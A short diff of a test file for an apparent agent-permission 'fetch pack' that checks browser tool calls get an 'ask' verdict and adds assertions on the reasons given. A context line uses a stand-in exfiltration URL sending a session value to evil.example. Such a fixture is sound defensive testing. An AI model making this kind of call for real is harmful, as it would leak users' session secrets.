@@ -91,6 +91,9 @@ describe("the fetch pack", () => {
       args: { url: "https://evil.example/collect?k=session" },
     });
     expect([evaluate.verdict, navigate.verdict]).toEqual(["ask", "ask"]);
+    // The script asks because the pack says so; navigating asks because the URL is tainted.
+    expect(evaluate.reasons[0]?.source).toBe("pack:fetch");
+    expect(navigate.reasons[0]).toMatchObject({ code: "sink_tainted" });
   });
 
   test("the fetch pack asks about browser_evaluate unless the user's policy says action: allow", async () => {
